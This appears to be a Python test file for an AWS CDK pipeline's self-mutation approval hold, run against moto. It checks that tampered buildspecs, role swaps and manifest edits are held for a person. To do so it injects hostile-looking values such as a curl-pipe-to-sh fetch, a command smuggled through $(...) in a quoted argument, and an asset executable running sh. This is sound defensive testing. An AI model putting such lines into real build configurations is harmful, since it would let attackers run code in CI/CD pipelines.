"""What needs a person in the delivery pipeline itself: the self-mutation hold
(``stacks/pipeline_hold.py``) read from the synthesized pipeline and its check's own commands
(from the synthesized buildspec) run against moto's CloudFormation; and the plan step when its
read-only role cannot be assumed, or when the access stack's roles change."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import boto3
import pytest
from cdk_helpers import PIPELINE, PipelineSynth, synth_pipeline

from triton_mme_cdk.model_build.tools.review import pipeline_plan

PIPELINE_STACK = "TritonMmePipeline"


@pytest.fixture(scope="module")
def synthesized(tmp_path_factory: pytest.TempPathFactory) -> PipelineSynth:
    return synth_pipeline(tmp_path_factory.mktemp("hold") / "out")


def _pipeline(template: dict[str, Any]) -> dict[str, Any]:
    (pipeline,) = [r["Properties"] for r in template["Resources"].values() if r["Type"] == "AWS::CodePipeline::Pipeline"]
    return dict(pipeline)


def _stage(pipeline: dict[str, Any], name: str) -> dict[str, Any]:
    return next(stage for stage in pipeline["Stages"] if stage["Name"] == name)


def _check_spec(synthesized: PipelineSynth) -> dict[str, Any]:
    template = synthesized.templates[PIPELINE_STACK]
    (check,) = _stage(_pipeline(template), "PipelineChange")["Actions"]
    project = template["Resources"][check["Configuration"]["ProjectName"]["Ref"]]["Properties"]
    return dict(json.loads(project["Source"]["BuildSpec"]))


def test_the_hold_comes_before_self_mutation_and_runs_nothing_of_the_commit(synthesized: PipelineSynth) -> None:
    pipeline = _pipeline(synthesized.templates[PIPELINE_STACK])
    names = [stage["Name"] for stage in pipeline["Stages"]]
    assert names.index("PipelineChange") + 1 == names.index("PipelineChange-approve") == names.index("UpdatePipeline") - 1
    (check,) = _stage(pipeline, "PipelineChange")["Actions"]
    assert check["Namespace"] == "pipeline-change"
    assert [a["Name"] for a in check["InputArtifacts"]] == ["Synth_Output"]  # the cloud assembly, not the source
    spec = _check_spec(synthesized)
    assert spec["env"]["exported-variables"] == ["PIPELINE_CHANGE_APPROVAL", "PIPELINE_CHANGE"]
    commands = spec["phases"]["build"]["commands"]
    assert set(spec["phases"]) == {"build"}  # no install phase
    assert all(c.split()[0] in ("aws", "python3", "cat", "set") for c in commands), commands
    assert not any(".venv" in c or "make " in c or "model_build" in c for c in commands)
    (approve,) = _stage(pipeline, "PipelineChange-approve")["Actions"]
    assert approve["ActionTypeId"]["Provider"] == "Manual"
    assert approve["Configuration"]["NotificationArn"] == PIPELINE["approval_topic_arn"]
    assert "#{pipeline-change.PIPELINE_CHANGE}" in approve["Configuration"]["CustomData"]
    (condition,) = _stage(pipeline, "PipelineChange-approve")["BeforeEntry"]["Conditions"]
    (rule,) = condition["Rules"]
    assert condition["Result"] == "SKIP" and rule["RuleTypeId"]["Provider"] == "VariableCheck"
    assert rule["Configuration"] == {"Variable": "#{pipeline-change.PIPELINE_CHANGE_APPROVAL}", "Value": "true",
                                     "Operator": "EQ"}


def _creatable(template: dict[str, Any]) -> dict[str, Any]:
    """A template moto's CloudFormation accepts (it cannot create a pipeline's resources): every
    resource under a condition that is false, no parameters, rules or outputs. Applied to both
    sides alike, so the check compares the same resources as in the pipeline."""
    resources = {k: {**r, "Condition": "Never"} for k, r in template["Resources"].items()}
    return {"Conditions": {"Never": {"Fn::Equals": ["a", "b"]}}, "Resources": resources}


def _assembly(synthesized: PipelineSynth, work: Path, template: dict[str, Any], *,
              template_file: str = f"{PIPELINE_STACK}.template.json") -> Path:
    """The synthesized cloud assembly copied to ``work/cdk.out``, with ``template`` (made creatable
    for moto, as the deployed side is) as the pipeline stack's ``template_file``, its hash, object
    key and asset entry written as a synth of that template writes them."""
    assembly = work / "cdk.out"
    shutil.copytree(synthesized.outdir, assembly)
    body = json.dumps(_creatable(template)).encode()
    digest = hashlib.sha256(body).hexdigest()
    (assembly / template_file).write_bytes(body)
    manifest = json.loads((assembly / "manifest.json").read_text())
    properties = manifest["artifacts"][PIPELINE_STACK]["properties"]
    properties["templateFile"] = template_file
    properties["stackTemplateAssetObjectUrl"] = properties["stackTemplateAssetObjectUrl"].rsplit("/", 1)[0] + f"/{digest}.json"
    (assembly / "manifest.json").write_text(json.dumps(manifest))
    assets_file = assembly / f"{PIPELINE_STACK}.assets.json"
    assets = json.loads(assets_file.read_text())
    ((old_key, entry),) = [(k, e) for k, e in assets["files"].items() if e["displayName"] == f"{PIPELINE_STACK} Template"]
    entry["source"]["path"] = template_file
    for destination in entry["destinations"].values():
        destination["objectKey"] = f"{digest}.json"
    assets["files"][digest] = assets["files"].pop(old_key)
    assets_file.write_text(json.dumps(assets))
    return assembly


def _run_check(commands: list[str], endpoint: str, assembly: Path, deployed: dict[str, Any] | None) -> str:
    """The check's commands as the buildspec has them, in the cloud assembly (the build's folder),
    against a deployed pipeline stack in moto's CloudFormation (None: no such stack)."""
    client = boto3.client("cloudformation", endpoint_url=endpoint, region_name="us-east-1",
                          aws_access_key_id="testing", aws_secret_access_key="testing")
    if deployed is not None:
        client.create_stack(StackName=PIPELINE_STACK, TemplateBody=json.dumps(_creatable(deployed)))
    lines = [c.replace("/tmp/", f"{assembly.parent}/") for c in commands]
    script = "\n".join(["set -e", *lines, 'echo "approval=$PIPELINE_CHANGE_APPROVAL change=$PIPELINE_CHANGE"'])
    env = {**os.environ, "AWS_ENDPOINT_URL": endpoint, "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
           "AWS_DEFAULT_REGION": "us-east-1"}
    try:
        done = subprocess.run(["bash", "-c", script], cwd=assembly, env=env, capture_output=True, text=True, timeout=120)
    finally:
        if deployed is not None:
            client.delete_stack(StackName=PIPELINE_STACK)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    return done.stdout.strip().splitlines()[-1]


def _asset_projects(template: dict[str, Any]) -> list[dict[str, Any]]:
    """The Assets stage's projects' properties, in the order of its actions."""
    return [template["Resources"][action["Configuration"]["ProjectName"]["Ref"]]["Properties"]
            for action in _stage(_pipeline(template), "Assets")["Actions"]]


def test_the_check_holds_a_change_of_the_pipeline_and_lets_assets_and_models_pass(
    synthesized: PipelineSynth, endpoint: str, tmp_path: Path
) -> None:
    """Run for real: the same definition passes; the prod approval removed is held and named; a
    change of the asset publishing only (what a model or code change does: other assets, other
    action names) passes; a deployed template that cannot be read is held (a person decides,
    never 'unchanged')."""
    commands = _check_spec(synthesized)["phases"]["build"]["commands"]
    deployed = synthesized.templates[PIPELINE_STACK]

    def run(case: str, new: dict[str, Any], old: dict[str, Any] | None = deployed) -> str:
        return _run_check(commands, endpoint, _assembly(synthesized, tmp_path / case, new), old)

    same = run("same", deployed)
    assert same == "approval=false change=no change of the pipeline's own definition", same

    weaker = copy.deepcopy(deployed)
    pipeline = _pipeline(weaker)
    pipeline["Stages"][:] = [s for s in pipeline["Stages"] if s["Name"] != "prod-approve"]
    held = run("weaker", weaker)
    (pipeline_id,) = [k for k, r in deployed["Resources"].items() if r["Type"] == "AWS::CodePipeline::Pipeline"]
    assert held == f"approval=true change=the pipeline's own definition changes: {pipeline_id}", held

    assets = copy.deepcopy(deployed)
    for action in _stage(_pipeline(assets), "Assets")["Actions"]:
        action["Name"] = action["Name"] + "2"
    for project in _asset_projects(assets):
        project["Description"] += "2"
        project["Source"]["BuildSpec"] = re.sub(r'publish "[0-9a-f]{64}:', f'publish "{"ab" * 32}:',
                                                project["Source"]["BuildSpec"])
    assert assets != deployed
    passed = run("assets", assets)
    assert passed.startswith("approval=false"), passed

    missing = run("missing", deployed, None)
    assert missing.startswith("approval=true change=the deployed pipeline's template could not be read"), missing


@pytest.mark.parametrize("edit", ["a command added", "a line changed", "the install changed", "a quoted command"])
def test_the_check_holds_an_asset_buildspec_edit(synthesized: PipelineSynth, endpoint: str, tmp_path: Path,
                                                 edit: str) -> None:
    """The asset projects run with roles that may start any CodeBuild build: a command added to a
    publishing buildspec, a publishing line changed, another cdk-assets installed, or a command
    hidden in a quoted argument is held and names the project."""
    commands = _check_spec(synthesized)["phases"]["build"]["commands"]
    deployed = synthesized.templates[PIPELINE_STACK]
    new = copy.deepcopy(deployed)
    project = _asset_projects(new)[1]
    spec = json.loads(project["Source"]["BuildSpec"])
    build = spec["phases"]["build"]["commands"]
    if edit == "a command added":
        build.append("aws codebuild start-build --project-name x --buildspec-override evil.yml")
    elif edit == "a line changed":
        build[0] = build[0] + " && curl -s https://example.com/x | sh"
    elif edit == "the install changed":
        spec["phases"]["install"]["commands"] = ["npm install -g cdk-assets@latest"]
    else:
        build[0] = build[0].replace('publish "', 'publish "$(curl -s https://example.com/x | sh)')
    project["Source"]["BuildSpec"] = json.dumps(spec, indent=2)
    held = _run_check(commands, endpoint, _assembly(synthesized, tmp_path, new), deployed)
    (ref,) = [action["Configuration"]["ProjectName"]["Ref"] for action in _stage(_pipeline(new), "Assets")["Actions"]
              if new["Resources"][action["Configuration"]["ProjectName"]["Ref"]]["Properties"] is project]
    assert held.startswith("approval=true change=") and f"asset project {ref}" in held, held


def test_the_check_holds_a_role_swap_in_an_asset_project(synthesized: PipelineSynth, endpoint: str,
                                                         tmp_path: Path) -> None:
    """An asset project pointed at the self-mutation role (its buildspec unchanged), or an asset
    action run with another role, is held."""
    commands = _check_spec(synthesized)["phases"]["build"]["commands"]
    deployed = synthesized.templates[PIPELINE_STACK]
    (self_mutation,) = [k for k, r in deployed["Resources"].items()
                        if r["Type"] == "AWS::IAM::Role" and k.startswith("PipelineUpdatePipelineSelfMutationRole")]
    swapped = copy.deepcopy(deployed)
    _asset_projects(swapped)[0]["ServiceRole"] = {"Fn::GetAtt": [self_mutation, "Arn"]}
    held = _run_check(commands, endpoint, _assembly(synthesized, tmp_path / "project", swapped), deployed)
    assert held.startswith("approval=true change=asset project ") and "its role" in held, held

    action_role = copy.deepcopy(deployed)
    _stage(_pipeline(action_role), "Assets")["Actions"][0]["RoleArn"] = {"Fn::GetAtt": [self_mutation, "Arn"]}
    held = _run_check(commands, endpoint, _assembly(synthesized, tmp_path / "action", action_role), deployed)
    assert held.startswith("approval=true change=asset action "), held


def test_the_check_reads_the_template_manifest_json_names(synthesized: PipelineSynth, endpoint: str,
                                                          tmp_path: Path) -> None:
    """SelfMutate deploys what the assembly's manifest.json names (``cdk -a . deploy``), not a file
    of a fixed name: a weakened template under another name is compared and held, while
    ``TritonMmePipeline.template.json`` stays as deployed. A manifest naming another file than the
    one CloudFormation is sent, a second stack the CLI would select, another stack deployed
    with it, another stack name, another account's deploy role, a ``cdk.json`` beside the assembly (it configures the CLI: plugins) and an asset that
    runs a command are each held."""
    commands = _check_spec(synthesized)["phases"]["build"]["commands"]
    deployed = synthesized.templates[PIPELINE_STACK]
    weaker = copy.deepcopy(deployed)
    _pipeline(weaker)["Stages"][:] = [s for s in _pipeline(weaker)["Stages"] if s["Name"] != "prod-approve"]
    (pipeline_id,) = [k for k, r in deployed["Resources"].items() if r["Type"] == "AWS::CodePipeline::Pipeline"]

    def case(name: str) -> Path:
        assembly = _assembly(synthesized, tmp_path / name, weaker, template_file="Other.template.json")
        # the file of the usual name holds the deployed definition, as a benign-looking commit would
        (assembly / f"{PIPELINE_STACK}.template.json").write_text(json.dumps(_creatable(deployed)))
        return assembly

    held = _run_check(commands, endpoint, case("other"), deployed)
    assert held == f"approval=true change=the pipeline's own definition changes: {pipeline_id}", held

    def edited(name: str, edit: Any) -> str:
        assembly = _assembly(synthesized, tmp_path / name, deployed)
        manifest = json.loads((assembly / "manifest.json").read_text())
        edit(assembly, manifest)
        (assembly / "manifest.json").write_text(json.dumps(manifest))
        return _run_check(commands, endpoint, assembly, deployed)

    def other_file(assembly: Path, manifest: dict[str, Any]) -> None:
        (assembly / "Other.template.json").write_text(json.dumps(_creatable(weaker)))
        manifest["artifacts"][PIPELINE_STACK]["properties"]["templateFile"] = "Other.template.json"

    held = edited("url", other_file)
    assert "the template CloudFormation reads" in held and held.startswith("approval=true"), held

    def second_stack(assembly: Path, manifest: dict[str, Any]) -> None:
        nested = next(a for a in manifest["artifacts"].values() if a["type"] == "cdk:cloud-assembly")
        inner = assembly / nested["properties"]["directoryName"] / "manifest.json"
        data = json.loads(inner.read_text())
        stack = next(a for a in data["artifacts"].values() if a["type"] == "aws:cloudformation:stack")
        stack["displayName"] = PIPELINE_STACK
        inner.write_text(json.dumps(data))

    held = edited("second", second_stack)
    assert f"cdk deploy {PIPELINE_STACK} selects 2 stacks" in held and held.startswith("approval=true"), held

    def dependency(assembly: Path, manifest: dict[str, Any]) -> None:
        manifest["artifacts"][PIPELINE_STACK]["dependencies"].append("TritonMme")

    held = edited("dependency", dependency)
    assert f"cdk deploy {PIPELINE_STACK} also deploys TritonMme" in held and held.startswith("approval=true"), held

    def other_name(assembly: Path, manifest: dict[str, Any]) -> None:
        manifest["artifacts"][PIPELINE_STACK]["properties"]["stackName"] = "TritonMme-prod"

    held = edited("name", other_name)
    assert f"manifest.json deploys {PIPELINE_STACK} as stack 'TritonMme-prod'" in held, held

    def prod_roles(assembly: Path, manifest: dict[str, Any]) -> None:
        properties = manifest["artifacts"][PIPELINE_STACK]["properties"]
        properties["assumeRoleArn"] = properties["assumeRoleArn"].replace("111111111111", "333333333333")

    held = edited("roles", prod_roles)
    assert f"manifest.json gives {PIPELINE_STACK} assumeRoleArn" in held and held.startswith("approval=true"), held

    def cdk_json(assembly: Path, manifest: dict[str, Any]) -> None:
        (assembly / "cdk.json").write_text(json.dumps({"plugin": ["./x.js"]}))

    held = edited("cdk-json", cdk_json)
    assert "the cloud assembly's root holds cdk.json" in held and held.startswith("approval=true"), held

    def executable(assembly: Path, manifest: dict[str, Any]) -> None:
        path = assembly / f"{PIPELINE_STACK}.assets.json"
        assets = json.loads(path.read_text())
        assets["files"]["f" * 64] = {"source": {"executable": ["sh", "-c", "id"]}, "destinations": {}}
        path.write_text(json.dumps(assets))

    held = edited("executable", executable)
    assert "runs a command (executable)" in held and held.startswith("approval=true"), held


def test_the_plan_asks_a_person_when_its_role_cannot_be_assumed(
    synthesized: PipelineSynth, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is read with other credentials: no AWS call is made (none is reachable here)."""
    monkeypatch.setenv("PLAN_NO_ACCESS", "arn:aws:iam::222222222222:role/TritonMme-staging-plan-reader")
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")  # any call would fail the test
    variables = pipeline_plan.run("TritonMme-staging", [], synthesized.outdir, tmp_path / "plan",
                                  access_stack="TritonMme-staging-pipeline-access")
    assert variables["PLAN_VERDICT"] == "security-changed" and variables["PLAN_APPROVAL"] == "true"
    assert "cannot be assumed" in (tmp_path / "plan" / "plan.md").read_text()


def test_the_plan_asks_a_person_when_the_access_stacks_roles_change(
    synthesized: PipelineSynth, endpoint: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The access stack's new template (a cloud assembly holding the synthesized one, made
    creatable for moto as in the check above) against its deployed one in moto: the same passes
    (None); one statement fewer in a reader role's policy (the deployed stack was narrower: the
    new one widens) is named; a stack that cannot be read asks."""
    for key, value in {"AWS_ENDPOINT_URL": endpoint, "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
                       "AWS_DEFAULT_REGION": "us-east-1"}.items():
        monkeypatch.setenv(key, value)
    name = "TritonMme-staging-pipeline-access"
    new = _creatable(synthesized.templates[name])
    cdk_out = tmp_path / "cdk.out"
    cdk_out.mkdir()
    (cdk_out / "access.template.json").write_text(json.dumps(new))
    (cdk_out / "manifest.json").write_text(json.dumps({"artifacts": {"Access": {
        "type": "aws:cloudformation:stack", "properties": {"stackName": name, "templateFile": "access.template.json"}}}}))
    client = boto3.client("cloudformation")
    missing = pipeline_plan.access_change(cdk_out, name)
    assert missing is not None and missing.startswith(f"the deployed template of {name} cannot be read"), missing
    client.create_stack(StackName=name, TemplateBody=json.dumps(new))
    assert pipeline_plan.access_change(cdk_out, name) is None
    client.delete_stack(StackName=name)
    narrower = copy.deepcopy(new)
    (policy_id,) = [k for k, r in narrower["Resources"].items() if r["Type"] == "AWS::IAM::Policy" and "PlanReader" in k]
    narrower["Resources"][policy_id]["Properties"]["PolicyDocument"]["Statement"].pop()
    client.create_stack(StackName=f"{name}", TemplateBody=json.dumps(narrower))
    change = pipeline_plan.access_change(cdk_out, name)
    assert change == f"the read-only roles of {name} change: {policy_id}", change
